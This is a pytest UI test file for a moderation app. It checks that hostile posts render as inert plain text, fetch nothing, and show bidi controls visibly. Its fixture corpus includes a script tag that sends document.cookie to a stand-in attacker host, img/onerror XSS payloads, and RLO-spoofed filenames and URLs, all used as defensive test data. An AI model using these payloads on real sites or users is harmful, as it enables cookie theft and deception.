"""Hostile post content, served by the demo platform, rendered in the real window: markup shown as characters
(nothing interpreted), nothing fetched (a loopback listener stands in for the attacker's image host), bidi
overrides made visible in the table, a 1 MB post shown whole, lone surrogates replaced rather than crashing."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from PySide6.QtNetwork import QNetworkAccessManager
from PySide6.QtWidgets import QApplication, QLabel

from moderator_app.core.models import CategoryId, Evidence, Suggestion
from moderator_app.platform_api import wire
from moderator_app.services.demo import DemoWorkstation, start_demo
from moderator_app.settings import Settings
from moderator_app.ui.main_window import MainWindow
from moderator_app.ui.presenters import printable
from moderator_app.ui.queue.filtering import Column
from tests.ui.conftest import activate

pytestmark = pytest.mark.reliability


@pytest.fixture
def attacker_host() -> Iterator[socket.socket]:
    """Where the hostile <img> tags point: it must never see a connection."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    yield listener
    listener.close()


def hostile_corpus(port: int) -> dict[str, str]:
    remote = f"http://127.0.0.1:{port}/pixel.png"
    return {
        "html": f"<b>粗体</b><a href='{remote}'>点这里</a><table><tr><td>表格</td></tr></table>",
        "script": f"<script>fetch('{remote}?c='+document.cookie)</script>真人荷官 在线发牌",
        "img": f"看图 <img src=\"{remote}\"> <img src='http://evil.example/x.png' onerror=alert(1)>",
        "rtl": "正常文字 \u202egnp.exe\u202c 结尾 \u2067隔离\u2069",
        "zwj": "家庭 👨\u200d👩\u200d👧 零宽\u200b空格\u200c\u200d\ufeff",
        "huge": "赌" * 350_000,  # about 1 MB of UTF-8
    }


HOSTILE_AUTHOR = "官方客服\u202eofni\u200b"
HOSTILE_MEDIA = "截图 \u202efdp.exe"
HOSTILE_REPORT = "链接 \u2067moc.elgoog//:sptth\u2069"


@pytest.fixture
def hostile_demo(tmp_path: Path, attacker_host: socket.socket) -> Iterator[tuple[DemoWorkstation, dict[str, str]]]:
    demo = start_demo("mod1", data_dir=tmp_path, posts=60)
    corpus = hostile_corpus(attacker_host.getsockname()[1])
    store = demo.server.store
    with store._locked() as db:  # the platform's own database: the posts it will serve
        first = [r[0] for r in db.execute("SELECT post_id FROM queue ORDER BY position LIMIT ?", (len(corpus),))]
        for post_id, text in zip(first, corpus.values(), strict=True):
            db.execute("UPDATE posts SET text=? WHERE post_id=?", (text, post_id))
        # The same overrides where the post pane shows the author, the reports and the media descriptions.
        rtl_post = first[list(corpus).index("rtl")]
        db.execute("UPDATE authors SET display_name=? WHERE author_id=(SELECT author_id FROM posts WHERE post_id=?)",
                   (HOSTILE_AUTHOR, rtl_post))
        db.execute("UPDATE posts SET media=? WHERE post_id=?", (json.dumps([{
            "media_id": "m-hostile", "kind": "image", "description": HOSTILE_MEDIA,
            "url": "https://media.demo.invalid/m-hostile"}]), rtl_post))
        db.execute("UPDATE queue SET reports=? WHERE post_id=?", (json.dumps([{
            "reporter_id": "r1", "reason": "scam", "text": HOSTILE_REPORT, "reported_at": "2026-11-30T08:00:00Z"}]),
            rtl_post))
    yield demo, dict(zip(first, corpus.values(), strict=True))
    demo.close()


def test_hostile_posts_are_shown_as_plain_text_and_fetch_nothing(
        qtbot, hostile_demo: tuple[DemoWorkstation, dict[str, str]], attacker_host: socket.socket) -> None:
    demo, served = hostile_demo
    window = MainWindow(Settings(undo_seconds=0), demo.session.pack)
    qtbot.addWidget(window)
    window.show()
    activate(qtbot, window)
    window.attach(demo.session)
    qtbot.waitUntil(lambda: all(window.queue_model.row_of(p) is not None for p in served), timeout=30_000)

    model = window.queue_model
    for post_id, text in served.items():
        row = model.row_of(post_id)
        cell = model.data(model.index(row, Column.TEXT))
        assert isinstance(cell, str) and len(cell) <= 400
        assert "\u202e" not in cell and "\u2067" not in cell  # bidi controls shown as marks, never applied
        item = model.item_at(row)
        assert item.post.text == text  # what arrived is what was served
        window.post_pane.show_item(item)
        assert window.post_pane.text.toPlainText() == printable(text)  # every character, markup as characters
    rtl = list(served)[3]
    assert "<U+202E>" in model.data(model.index(model.row_of(rtl), Column.TEXT))
    window.queue_pane.select(rtl)  # the author line, reports and media descriptions as served
    qtbot.waitUntil(lambda: window.post_pane.item is not None and window.post_pane.item.post_id == rtl)
    assert window.post_pane.author.text().startswith("官方客服<U+202E>ofni<U+200B> · ")
    assert "链接 <U+2067>moc.elgoog//:sptth<U+2069>" in window.post_pane.reports.item(0).text()
    assert window.post_pane.media_tiles()[0].preview.text() == "[image] 截图 <U+202E>fdp.exe"

    evidence = tuple(Evidence("lexicon", text[:120], 0.5) for text in served.values())
    window.suggestions_pane.show_suggestions([Suggestion(CategoryId("10.7"), 0.9, evidence)])
    shown = [window.suggestions_pane.tree.topLevelItem(0).child(n).text(0) for n in range(len(evidence))]
    assert any("<script>" in line for line in shown) and any("<img src=" in line for line in shown)

    for label in window.findChildren(QLabel):
        assert label.textFormat() == Qt.TextFormat.PlainText, label.objectName()
    assert not QApplication.instance().findChildren(QNetworkAccessManager)
    qtbot.wait(500)  # time for any (wrongly) started image load to connect; absence cannot be polled for
    with pytest.raises(BlockingIOError):
        attacker_host.accept()
    window.close()


def test_lone_surrogates_from_the_platform_are_replaced_not_fatal(qtbot) -> None:
    """SQLite and JSON encoders refuse lone surrogates, so the demo platform cannot serve them; a platform that
    sends ``\\ud800`` escapes is simulated at the wire: parsed, then rendered in the same widgets."""
    raw = json.loads('{"post_id": "7530000000000000001", "author": {"author_id": "a\\ud800", "display_name": '
                     '"\\udfff名", "real_name": null}, "text": "前\\ud800后\\udc00", "published_at": '
                     '"2026-11-30T08:00:00Z", "url": "https://weibo.example/1", "repost_count": 0, "media": []}')
    item = wire.queue_item(wire.Node({"post": raw, "reports": [], "flagged_at": "2026-11-30T09:00:00Z",
                                      "source": "user_report", "priority": 1, "category_hint": None,
                                      "claimed_by": None, "lease_expires_at": None}))
    window = MainWindow(Settings(undo_seconds=0), None)
    qtbot.addWidget(window)
    window.post_pane.show_item(item)
    shown = window.post_pane.text.toPlainText()
    shown.encode("utf-8")  # nothing unencodable reached Qt
    assert shown == "前\ufffd后\ufffd"
    window.queue_model.set_items([item])
    cell = window.queue_model.data(window.queue_model.index(0, Column.TEXT))
    assert cell == "前\ufffd后\ufffd"
    window.close()
